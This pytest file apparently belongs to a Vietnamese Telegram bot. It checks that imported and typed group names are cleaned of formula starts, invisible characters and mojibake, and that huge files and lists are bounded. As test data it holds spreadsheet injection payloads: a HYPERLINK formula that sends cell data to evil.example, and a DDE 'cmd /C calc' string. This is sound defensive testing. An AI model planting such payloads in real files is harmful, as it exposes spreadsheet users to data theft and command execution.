"""Hostile names and files (issue 9, items 10-12), end to end through the simulator.

10. A tổ named `=HYPERLINK(…)` must not become a live formula in `invites.csv`.
11. NUL, right-to-left overrides and zero-width characters never reach a stored tổ name, and a
    file that was double-encoded on the way (UTF-8 read as Windows-1252, saved again) is
    refused with a sentence that says so, not imported as "Tá»• 3".
12. A file far past any ward's size is refused at once, and lists over 20,000 tổ come one
    bounded page at a time while other people are still answered.

`bot.sheets` and `bot.inputs` are imported inside the tests that use them, so that this file
also runs (and fails test by test) against a tree without them.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import time
import unicodedata
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot import reports, texts, units
from bot.app import build_application, running
from bot.config import Config
from bot.content import ContentPack
from bot.db import Database
from bot.people_cli import import_units_main, invite_main
from bot.simulator import BotApiSimulator, SentMessage, SimUser

from .conftest import ADMIN_ID, FIXED_TODAY, SteadyClock
from .report_helpers import svc, without_reminders

TELEGRAM_LIMIT = 4096  # UTF-16 code units of one message's text
PROMPT = 3.0  # seconds: generous; the point is that nobody waits minutes behind a list
FORMULA_CHARS = "=+-@＝＋－＠"
INVISIBLE = ("\x00", "\u202e", "\u200b")


def utf16(text: str) -> int:
    return len(text.encode("utf-16-le", "surrogatepass")) // 2


def reads_as_formula(cell: str) -> bool:
    """Would a spreadsheet opening the CSV evaluate this cell? (OWASP: a cell beginning with
    = + - @, tab or CR; importers that trim first make " =1+1" a formula too.)"""
    if cell[:1] in ("\t", "\r"):
        return True
    for ch in cell:  # what an importer may skip first: white space, NUL, a BOM, a ZWSP…
        if not (ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf")):
            return ch in FORMULA_CHARS
    return False


def double_encode(text: str) -> str:
    """`text` as Excel shows it after opening a UTF-8 file as Windows-1252 (the five bytes
    that code page leaves undefined become the C1 controls of the same number)."""
    out = []
    for byte in text.encode("utf-8"):
        try:
            out.append(bytes([byte]).decode("cp1252"))
        except UnicodeDecodeError:
            out.append(chr(byte))
    return "".join(out)


def excel_csv(rows: list[list[str]], *, bom: bool = True) -> bytes:
    """Rows as Excel's "CSV UTF-8" writes them in a Vietnamese locale (";", BOM, CRLF)."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=";").writerows(rows)
    return (b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode("utf-8")


async def run_import(config: Config, path: Path) -> tuple[int, str]:
    """`python -m bot import-units path`: its exit code and what it printed on stderr."""
    err = io.StringIO()
    code = await import_units_main(config, path, io.StringIO(), err)
    return code, err.getvalue()


async def export_invites(config: Config, folder: Path) -> list[list[str]]:
    """`python -m bot invite --all --out-dir folder`, then its invites.csv as read back."""
    out, err = io.StringIO(), io.StringIO()
    code = await invite_main(
        config,
        role="leader",
        unit_code=None,
        all_units=True,
        out_path=None,
        out_dir=folder,
        bot_username="loaphuong_bot",
        out=out,
        err=err,
    )
    assert code == 0, err.getvalue()
    with (folder / "invites.csv").open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


async def names(db: Database) -> dict[str, str]:
    return {str(r[0]): str(r[1]) for r in await db.fetchall("SELECT code, name FROM units")}


@pytest.fixture
async def db(bot: Any) -> Database:
    return svc(bot).db


@pytest.fixture
def admin(sim: BotApiSimulator) -> SimUser:
    return sim.user(ADMIN_ID, "Hà")


# ---------------------------------------------------------------- 10. formula injection

# Each starts with a character a spreadsheet reads as the start of a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?l="&C2,"Bấm vào đây")',
    "+1+1",
    "-2+3*cmd",
    "@SUM(1+1)",
    "＝1+1",
]


def assert_sheet_is_safe(sheet: list[list[str]], stored: dict[str, str]) -> None:
    """No cell reads as a formula, and every tổ's name is still there, as text."""
    assert sheet[0][0] == "Mã tổ"
    for row in sheet:
        for cell in row:
            assert not reads_as_formula(cell), (cell, row)
    for code, name, *_ in sheet[1:]:
        assert name in (stored[code], "'" + stored[code]), (name, stored[code])


async def test_formula_names_from_chat_stay_text_in_the_invite_sheet(
    admin: SimUser, db: Database, config: Config, tmp_path: Path
) -> None:
    typed = [*FORMULAS, "\t=1+1", "\r=2+2"]
    for number, name in enumerate(typed, start=1):
        await admin.send(f"/themto F{number} {name}")
        assert "Đã thêm" in (await admin.expect_reply()).text
    stored = await names(db)
    assert any(n.startswith("=HYPERLINK") for n in stored.values())  # kept, not refused

    sheet = await export_invites(config, tmp_path / "qr")
    assert len(sheet) == 1 + len(typed)
    assert_sheet_is_safe(sheet, stored)


async def test_formula_names_from_a_csv_stay_text_in_the_invite_sheet(
    bot: Any, db: Database, config: Config, tmp_path: Path
) -> None:
    rows = [["Mã tổ", "Tên tổ", "Khu vực"]]
    starts = [*FORMULAS, "=cmd|' /C calc'!A0", "@x", "-", "+"]
    rows += [[f"C{i}", name, "=1+1"] for i, name in enumerate(starts, start=1)]
    path = tmp_path / "to.csv"
    path.write_bytes(excel_csv(rows))
    code, err = await run_import(config, path)
    assert code == 0, err
    stored = await names(db)
    assert stored["C1"] == FORMULAS[0]

    sheet = await export_invites(config, tmp_path / "qr")
    assert {row[0] for row in sheet[1:]} == {f"C{i}" for i in range(1, len(starts) + 1)}
    assert_sheet_is_safe(sheet, stored)


def test_every_formula_start_is_neutralised() -> None:
    from bot import sheets

    for cell in ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1+1", "\u00a0@A1", "\x00=1"]:
        safe = sheets.safe_cell(cell)
        assert not reads_as_formula(safe), repr(cell)
        assert safe.endswith(cell)  # nothing of the text is lost
    for cell in [
        "Tổ dân phố số 5",
        "TDP05",
        "https://t.me/x?start=-abc",
        "",
        " Tổ 5",
        "05/01/2026",
    ]:
        assert sheets.safe_cell(cell) == cell  # ordinary text untouched
    assert sheets.safe_cell(None) == "" and sheets.safe_cell(-5) == "'-5"
    assert sheets.safe_row(["=1", "a"]) == [sheets.safe_cell("=1"), "a"]


# Cells as an attacker would shape them: something an importer skips, a formula start, more.
CELLS = st.one_of(
    st.text(),
    st.tuples(
        st.text(alphabet=" \t\r\n\x00\u00a0\u2003\u200b\u202e\ufeff", max_size=3),
        st.sampled_from(["", "=", "+", "-", "@", "＝", "'", "a", "1"]),
        st.text(max_size=10),
    ).map("".join),
)


@given(CELLS)
def test_safe_cell_never_reads_as_a_formula_and_keeps_the_text(text: str) -> None:
    from bot import sheets

    safe = sheets.safe_cell(text)
    assert not reads_as_formula(safe)
    assert safe in (text, "'" + text)
    if not reads_as_formula(text) and text[:1] != "\x00":
        assert safe == text  # only the cells that need it are changed


# ---------------------------------------------------------------- 11. invisible characters


def assert_clean(name: str) -> None:
    for ch in INVISIBLE:
        assert ch not in name, repr(name)
    assert not any(unicodedata.category(ch) in ("Cc", "Cf") for ch in name), repr(name)


async def test_invisible_characters_never_reach_a_name_from_chat(
    admin: SimUser, db: Database
) -> None:
    await admin.send("/themto T20 Tổ\x00 dân\u202e phố \u200b20 | Khu\u200b 1\x00")
    assert "Đã thêm" in (await admin.expect_reply()).text
    unit = await units.get_by_code(db, "T20")
    assert unit is not None
    assert (unit.name, unit.area) == ("Tổ dân phố 20", "Khu 1")

    await admin.send("/doiten T20 \u202eTổ \u200bmới\x00 20\u200b")
    assert "Đã đổi tên" in (await admin.expect_reply()).text
    renamed = await units.get_by_code(db, "T20")
    assert renamed is not None and renamed.name == "Tổ mới 20"

    await admin.send("/themto T21 \u200b\u202e\x00")  # nothing visible left: no name
    assert "Đã thêm" not in (await admin.expect_reply()).text
    assert await units.get_by_code(db, "T21") is None
    for name in (await names(db)).values():
        assert_clean(name)


async def test_invisible_characters_never_reach_a_name_from_a_csv(
    bot: Any, db: Database, config: Config, tmp_path: Path
) -> None:
    rows = [
        ["\ufeffMã\u200b tổ", "Tên tổ\x00", "Khu vực"],
        ["TDP01", "Tổ dân\x00 phố số 1", "Khu\u202e 1"],
        ["TDP02", "\u202eTổ dân phố số 2\u202c", "\u200b"],
        ["TDP03", "Tổ\u200b dân phố\u2066 số 3\u2069", "Khu 3\x07"],
    ]
    path = tmp_path / "to.csv"
    path.write_bytes(excel_csv(rows))
    code, err = await run_import(config, path)
    assert code == 0, err
    found = await db.fetchall("SELECT code, name, area FROM units ORDER BY code")
    assert [tuple(r) for r in found] == [
        ("TDP01", "Tổ dân phố số 1", "Khu 1"),
        ("TDP02", "Tổ dân phố số 2", ""),
        ("TDP03", "Tổ dân phố số 3", "Khu 3"),
    ]


VIETNAMESE = st.text(
    alphabet=st.sampled_from(
        "aăâbcdđeêghiklmnoôơpqrstuưvxyAĂÂĐÊÔƠƯ0123456789 "
        "áàảãạấầẩẫậắằẳẵặéèẻẽẹếềểễệíìỉĩịóòỏõọốồổỗộớờởỡợúùủũụứừửữựýỳỷỹỵ"
        "ẤẦỀỜỎỐỒỔỠỢỨỪỬỰ"
    ),
    min_size=1,
    max_size=40,
)


@given(st.text(max_size=80))
def test_clean_name_keeps_no_invisible_characters(text: str) -> None:
    from bot import inputs

    clean = inputs.clean_name(text)
    assert not any(unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Co") for ch in clean)
    assert clean == clean.strip() and "  " not in clean
    assert unicodedata.is_normalized("NFC", clean)
    assert inputs.clean_name(clean) == clean


@given(VIETNAMESE)
def test_mojibake_finds_double_encoding_and_leaves_real_text(text: str) -> None:
    from bot import inputs

    assert inputs.mojibake(text) is None  # real Vietnamese is never taken for mojibake
    garbled = double_encode(text)
    if garbled != text:
        assert inputs.mojibake(garbled) == text


def mojibake_tail() -> str:
    """The fixed part of texts.t_mojibake: what to do about it, whatever the name."""
    return texts.t_mojibake("\x01", "\x02").split("\x02")[-1]


NAMES = [
    ("TDP01", "Tổ dân phố số 1", "Khu dân cư Đông Hải"),
    ("TDP02", "Tổ dân phố về Hà", "Khu 2"),  # "ề" holds a byte cp1252 leaves undefined
    ("TDP03", "Tổ nhỏ ở Đằng Lâm", "Thành Tô"),  # "à" ends in a no-break space
]


async def test_double_encoded_csv_is_refused_with_its_cause(
    bot: Any, db: Database, config: Config, tmp_path: Path
) -> None:
    good = excel_csv([["Mã tổ", "Tên tổ", "Khu vực"], *map(list, NAMES)], bom=False)
    path = tmp_path / "to.csv"
    path.write_bytes(double_encode(good.decode("utf-8")).encode("utf-8"))
    code, err = await run_import(config, path)
    assert code == 1
    assert mojibake_tail() in err, err
    assert await db.fetchval("SELECT COUNT(*) FROM units") == 0

    # The header in English (no diacritics) and only one row garbled: still found, by line.
    rows = [["code", "name", "area"], list(NAMES[0])]
    rows += [[c, double_encode(n), double_encode(a)] for c, n, a in NAMES[1:]]
    path.write_bytes(excel_csv(rows))
    code, err = await run_import(config, path)
    assert code == 1
    assert mojibake_tail() in err, err
    assert str(units.CsvProblem(3, "")) in err  # TDP02 is on line 3
    assert await db.fetchval("SELECT COUNT(*) FROM units") == 0

    # The same file, correctly encoded, imports.
    path.write_bytes(good)
    code, err = await run_import(config, path)
    assert code == 0, err
    assert [
        tuple(r) for r in await db.fetchall("SELECT code, name, area FROM units ORDER BY code")
    ] == NAMES


async def test_double_encoded_name_typed_in_chat_is_refused(admin: SimUser, db: Database) -> None:
    await admin.send(f"/themto T30 {double_encode('Tổ dân phố số 30')}")
    reply = (await admin.expect_reply()).text
    assert mojibake_tail().strip() in reply
    assert await units.get_by_code(db, "T30") is None
    # "ề" leaves a C1 control and "à" a no-break space, both gone once the name is cleaned
    await admin.send(f"/themto T30 {double_encode('Tổ về Hà Nam')} | {double_encode('Khu Hà Nội')}")
    assert mojibake_tail().strip() in (await admin.expect_reply()).text
    assert await units.get_by_code(db, "T30") is None
    # ending in "à": the no-break space it leaves is the last character typed
    await admin.send(f"/themto T30 {double_encode('Tổ Hà')}")
    assert mojibake_tail().strip() in (await admin.expect_reply()).text
    assert await units.get_by_code(db, "T30") is None
    await admin.send("/themto T30 Tổ dân phố số 30")
    assert "Đã thêm" in (await admin.expect_reply()).text
    await admin.send(f"/doiten T30 {double_encode('Tổ dân phố số 30 mới')}")
    assert mojibake_tail().strip() in (await admin.expect_reply()).text
    unit = await units.get_by_code(db, "T30")
    assert unit is not None and unit.name == "Tổ dân phố số 30"


# ---------------------------------------------------------------- 12. files without bounds


async def test_a_million_row_csv_is_refused_at_once(
    bot: Any, db: Database, config: Config, tmp_path: Path
) -> None:
    lines = "\n".join(f"T{i};Tổ dân phố số {i};Khu {i % 7}" for i in range(1_000_000))
    path = tmp_path / "big.csv"
    path.write_bytes(("Mã tổ;Tên tổ;Khu vực\n" + lines + "\n").encode("utf-8"))
    started = time.monotonic()
    code, err = await asyncio.wait_for(run_import(config, path), timeout=30)
    took = time.monotonic() - started
    print(f"TIMING import 1,000,000 rows ({path.stat().st_size:,} bytes): {took:.3f} s")
    assert code == 1
    assert texts.t_csv_too_big(units.IMPORT_MAX_BYTES, units.IMPORT_MAX_ROWS) in err
    assert took < 2.0
    assert await db.fetchval("SELECT COUNT(*) FROM units") == 0


async def test_too_many_rows_in_a_small_file_are_refused(
    bot: Any, db: Database, config: Config, tmp_path: Path
) -> None:
    count = 50_000  # ~880 kB: under the byte cap, far over any ward
    lines = "\n".join(f"T{i};Tổ {i}" for i in range(count))
    path = tmp_path / "many.csv"
    path.write_bytes(("code;name\n" + lines + "\n").encode("utf-8"))
    assert path.stat().st_size <= units.IMPORT_MAX_BYTES
    started = time.monotonic()
    code, err = await asyncio.wait_for(run_import(config, path), timeout=30)
    took = time.monotonic() - started
    print(f"TIMING import {count:,} rows ({path.stat().st_size:,} bytes): {took:.3f} s")
    assert code == 1
    assert texts.t_csv_too_many_rows(units.IMPORT_MAX_ROWS) in err
    assert took < 2.0
    assert await db.fetchval("SELECT COUNT(*) FROM units") == 0

    # A real ward's file (a few hundred tổ at most) still imports.
    path.write_bytes(("code;name\n" + "\n".join(f"T{i};Tổ {i}" for i in range(300))).encode())
    code, err = await run_import(config, path)
    assert code == 0, err
    assert await db.fetchval("SELECT COUNT(*) FROM units") == 300


# ---------------------------------------------------------------- 12. lists of 20,000 tổ

UNITS = 20_000
STAMP = "2026-01-01T00:00:00Z"
LONG = "🏘️ <b>&amp;</b> Đường Lạch Tray kéo dài"


@pytest.fixture
async def big_bot(config: Config, pack: ContentPack, clock: SteadyClock) -> AsyncIterator[Any]:
    # On a fixed date: with the real clock, a week or a month that ended between the first
    # page of /chuabaocao and the next one changed the number of pages (1134, then 1334).
    app = build_application(without_reminders(config), pack, clock=clock)
    async with running(app):
        assert reports.local_today(svc(app).clock, svc(app).config) == FIXED_TODAY
        await fill(svc(app).db, FIXED_TODAY.isoformat())
        yield app


async def fill(db: Database, today: str) -> None:
    """20,000 tổ with long names, leaders, groups, reports and invites, inserted as rows."""
    units_rows = [
        (i, f"T{i:05d}", f"Tổ dân phố số {i} {LONG * (1 + i % 3)}"[:120], LONG[: i % 40], STAMP)
        for i in range(1, UNITS + 1)
    ]
    leaders = [(100_000 + k, f"Nguyễn Thị Thu {k} 🌸🌸🌸 Hoàng Lê"[:64]) for k in range(300)]
    leading = [(1 + (k * 7) % UNITS, uid) for k, (uid, _) in enumerate(leaders)]
    leading += [(2, uid) for uid, _ in leaders[:40] if (2, uid) not in leading]  # many leaders
    groups = [
        (-1_000_000 - g, f"Nhóm Zalo chuyển sang Telegram {g} {LONG * 3}"[:128], 1 + g % 50)
        for g in range(400)
    ]
    reports_rows = [
        (1 + (r * 3) % UNITS, leaders[r % len(leaders)][0], today, f"Khác {LONG * 4}", STAMP)
        for r in range(3_000)
    ]
    async with db.transaction() as conn:
        await conn.executemany(
            "INSERT INTO units (id, code, name, area, created_at, updated_at)"
            " VALUES (?, ?, ?, ?, ?, ?5)",
            units_rows,
        )
        await conn.executemany(
            "INSERT INTO people (user_id, first_name, role, consent_at, consent_version,"
            " created_at, updated_at) VALUES (?, ?, 'leader', ?3, 'test', ?3, ?3)",
            [(uid, name, STAMP) for uid, name in leaders],
        )
        await conn.executemany(
            "INSERT INTO unit_leaders (unit_id, user_id, since) VALUES (?, ?, ?)",
            [(u, uid, STAMP) for u, uid in leading],
        )
        await conn.executemany(
            "INSERT INTO chats (chat_id, type, title, unit_id) VALUES (?, 'supergroup', ?, ?)",
            groups,
        )
        await conn.executemany(
            "INSERT INTO reports (unit_id, leader_id, session_date, form, form_other, topics,"
            " attendance, submitted_at, updated_at, digested_at)"
            " VALUES (?, ?, ?, 'khac', ?, '[]', 30, ?5, ?5, ?5)",
            reports_rows,
        )
        await conn.executemany(
            "INSERT INTO invites (token_hash, role, unit_id, created_by, created_at, expires_at)"
            " VALUES (?, 'leader', ?, ?, ?, ?)",
            [(f"h{i}", i, ADMIN_ID, STAMP, "2099-01-01T00:00:00Z") for i in range(1, UNITS + 1)],
        )


PAGE = re.compile(r"Trang (\d+)/(\d+)")


def page_number(message: SentMessage) -> tuple[int, int]:
    found = PAGE.findall(message.text)
    assert found, message.text[-200:]
    return int(found[-1][0]), int(found[-1][1])


def entries(message: SentMessage) -> set[str]:
    """What a page lists: tổ codes, or report and invite numbers."""
    return set(re.findall(r"\bT\d{5}\b|\b[Ss]ố \d+\b", message.text))


async def timed(
    act: Callable[[], Awaitable[object]], actor: SimUser, bystander: SimUser
) -> tuple[SentMessage, float, float]:
    """Do `act`; at the same moment someone else sends /start in their own chat. Returns the
    actor's answer, how long it took, and how long the bystander waited."""
    started = time.monotonic()

    async def answer(user: SimUser) -> tuple[SentMessage, float]:
        message = await user.expect_reply(timeout=120)
        return message, time.monotonic() - started

    await act()
    await bystander.send("/start")
    (message, took), (_, waited) = await asyncio.gather(answer(actor), answer(bystander))
    return message, took, waited


@pytest.mark.parametrize("command", ["/dsto", "/chuabaocao", "/duyetbaocao", "/loimoi"])
async def test_lists_of_twenty_thousand_come_one_page_at_a_time(
    sim: BotApiSimulator, big_bot: Any, command: str
) -> None:
    admin = sim.user(ADMIN_ID, "Hà")
    first, took, waited = await timed(lambda: admin.send(command), admin, sim.user(700_001, "Bình"))
    print(f"TIMING {command}: answer {took:.3f} s, other /start {waited:.3f} s")
    assert waited < PROMPT and took < PROMPT
    await asyncio.sleep(0.2)
    admin.skip_replies()  # one message, not hundreds
    assert len(sim.messages_in(admin.chat_id)) == 1, len(sim.messages_in(admin.chat_id))
    assert utf16(first.text) <= TELEGRAM_LIMIT
    assert page_number(first)[0] == 1 and page_number(first)[1] > 1
    assert [texts.BTN_NEXT_PAGE] in [row[-1:] for row in first.buttons]

    second, took, waited = await timed(
        lambda: admin.press(first, texts.BTN_NEXT_PAGE), admin, sim.user(700_002, "Chi")
    )
    print(f"TIMING {command} next page: answer {took:.3f} s, other /start {waited:.3f} s")
    assert waited < PROMPT and took < PROMPT
    assert utf16(second.text) <= TELEGRAM_LIMIT
    assert page_number(second) == (2, page_number(first)[1])
    assert entries(first) and entries(second) and not entries(first) & entries(second)
    labels = [label for row in second.buttons for label in row]
    assert texts.BTN_PREV_PAGE in labels and texts.BTN_NEXT_PAGE in labels
